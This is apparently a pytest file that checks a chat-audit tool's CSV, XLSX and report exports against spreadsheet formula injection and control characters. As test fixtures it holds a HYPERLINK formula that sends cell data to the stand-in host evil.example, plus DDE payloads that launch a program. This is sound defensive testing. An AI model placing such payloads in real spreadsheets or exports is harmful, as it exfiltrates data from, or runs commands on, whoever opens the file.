"""Outputs that must not attack their reader (issue 11, items 7 and 14).

A real audit of hostile chats — formula payloads in ids and text, full-width forms,
NUL and ANSI escapes — then every spreadsheet writer: `export --format csv`,
`review export` (csv, xlsx) and `report --format csv`.
"""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from auditor.spreadsheet import is_formula_like, restore_cell, safe_cell, safe_text
from cli import main

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
DDE = "=cmd|' /C calc'!A0"
AGENT = "@SUM(1+1)*cmd|' /C calc'!A0"
ANSI = "\x1b[31mred\x1b[0m and a NUL\x00 here"


def _chat(chat_id: str, agent_id: str, customer: str, agent: str) -> dict:
    t0 = 1795248065
    return {
        "chat_id": chat_id,
        "agent_id": agent_id,
        "language": "en",
        "messages": [
            {"role": "customer", "ts": t0, "text": customer},
            {"role": "agent", "ts": t0 + 10, "text": f"Hello, I'm happy to help. {agent}"},
            {"role": "customer", "ts": t0 + 20, "text": "+1 555 0100 call me"},
            {"role": "agent", "ts": t0 + 30, "text": "Anything else? Thanks for contacting us!"},
        ],
    }


CHATS = [
    _chat(HYPERLINK, AGENT, DDE, "-2+3"),
    _chat("＝1+1", "+agent", ANSI, "\t=1+1"),
    _chat("plain-1", "-7", " =SUM(A1:A9)", "@home"),
]


def run(*args: str) -> str:
    r = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert r.exit_code == 0, r.output
    return r.output


@pytest.fixture
def db(tmp_path: Path) -> str:
    src = tmp_path / "hostile.jsonl"
    src.write_text("\n".join(json.dumps(c) for c in CHATS) + "\n", encoding="utf-8")
    path = str(tmp_path / "a.db")
    summary = json.loads(run("audit", str(src), "--db", path, "--json"))
    assert summary["audited"] == len(CHATS)
    return path


def _cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row]


def _assert_no_live_cell(cells: list[str]) -> None:
    for c in cells:
        assert not is_formula_like(c), repr(c)
        assert "\x00" not in c and "\x1b" not in c, repr(c)


def test_safe_text_follows_owasp():
    for text in ("=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1"):
        assert safe_text(text) == "'" + text
        assert restore_cell(safe_text(text)) == text
    assert safe_text("＠x") == "'＠x"
    # white space before a trigger does not hide it
    assert safe_text(" =1+1") == "' =1+1" and safe_text("\u3000=1") == "'\u3000=1"
    for text in ("hello", "1-2", "a=b", "", "'quoted", "您好"):
        assert safe_text(text) == text
    # real numbers stay numbers, negative ones too; only text is guarded
    assert safe_cell(-3.5) == -3.5 and safe_cell(-2) == -2 and safe_cell(True) == 1
    assert safe_cell("-2") == "'-2" and safe_cell(None) == ""
    assert safe_text("a\x00b\x1b[0m\x7f") == "a\u2400b\u241b[0m\u2421"
    assert restore_cell("a\u2400b\u241b[0m\u2421") == "a\x00b\x1b[0m\x7f"


def test_export_csv_neutralises_ids_and_keeps_numbers(db, tmp_path):
    out = tmp_path / "results.csv"
    run("export", "--format", "csv", "-o", str(out), "--db", db)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    _assert_no_live_cell(_cells(body))
    by_id = {restore_cell(r[0]): dict(zip(header, r, strict=True)) for r in body}
    assert set(by_id) == {HYPERLINK, "＝1+1", "plain-1"}
    assert by_id[HYPERLINK]["chat_id"] == "'" + HYPERLINK
    assert by_id[HYPERLINK]["agent_id"] == "'" + AGENT
    assert by_id["plain-1"]["agent_id"] == "'-7"  # text that looks like a number stays text
    for row in by_id.values():
        float(row["score"])  # numeric cells are written as plain numbers


def test_review_export_csv_is_inert(db, tmp_path):
    out = tmp_path / "sheet.csv"
    run("review", "export", "--format", "csv", "-o", str(out), "--db", db)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) > 1
    _assert_no_live_cell(_cells(rows))


def test_review_export_xlsx_with_controls_and_formulas_round_trips(db, tmp_path):
    out = tmp_path / "sheet.xlsx"
    run("review", "export", "--format", "xlsx", "-o", str(out), "--db", db)
    # no formula anywhere in the workbook's XML, no control character either
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    wb = load_workbook(out)
    ws = wb["review"]
    header = [c.value for c in ws[1]]
    transcripts = []
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and is_formula_like(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, cell.value
        transcripts.append(row[header.index("transcript")].value)
    ids = {row[0].value for row in ws.iter_rows(min_row=2)}
    assert ids == {HYPERLINK, "＝1+1", "plain-1"}  # xlsx keeps the text exactly, typed as text
    assert any("\u241b[31mred\u241b[0m and a NUL\u2400 here" in t for t in transcripts)
    # a reviewer fills in one level; the import finds the hostile chat id again
    level_col = header.index("human_level") + 1
    crit_col = header.index("criterion") + 1
    target = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == HYPERLINK)
    criterion = ws.cell(target, crit_col).value
    allowed = ws.cell(target, header.index("allowed_levels") + 1).value.split("|")
    ws.cell(target, level_col).value = allowed[0]
    ws.cell(target, header.index("reviewer") + 1).value = "ann"
    wb.save(out)
    printed = run("review", "import", str(out), "--db", db)
    assert f"imported 1 reviews from {out}" in printed
    from auditor.store import Store

    s = Store(db)
    try:
        got = s.query("SELECT chat_id, criterion, level FROM reviews")
    finally:
        s.close()
    assert got == [{"chat_id": HYPERLINK, "criterion": criterion, "level": allowed[0]}]


def test_report_csv_neutralises_ids_and_quotes(db, tmp_path):
    out = tmp_path / "week.csv"
    run("report", "--format", "csv", "-o", str(out), "--db", db)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    _assert_no_live_cell(_cells(rows))
    agents = {restore_cell(r[1]) for r in rows[1:] if r[1]}
    assert {AGENT, "+agent", "-7"} <= agents
    values = [r[6] for r in rows[1:] if r[0] == "total"]
    assert values and all(float(v) >= 0 for v in values)


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30))
@example("'=x")
@example("''+1")
@example("'plain")
def test_safe_text_is_never_live_and_round_trips(text):
    safe = safe_text(text)
    assert not is_formula_like(safe)
    assert not any(ord(c) < 0x20 and c not in "\t\n\r" or c == "\x7f" for c in safe)
    if not any("\u2400" <= c <= "\u2421" for c in text):  # pictures already in the text
        assert restore_cell(safe) == text
